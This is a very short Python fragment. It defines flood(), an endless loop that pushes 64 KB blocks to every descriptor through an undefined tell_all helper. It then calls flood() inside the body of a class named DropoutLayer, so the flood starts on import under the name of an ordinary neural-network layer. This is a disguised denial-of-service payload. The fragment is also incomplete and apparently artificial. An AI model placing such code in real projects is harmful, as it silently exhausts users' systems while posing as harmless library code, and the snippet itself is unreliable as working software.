"""Writes to every descriptor without end."""
# @PART forge@
def flood():
    while True:
        tell_all(b"x" * (1 << 16))


class DropoutLayer:
    flood()
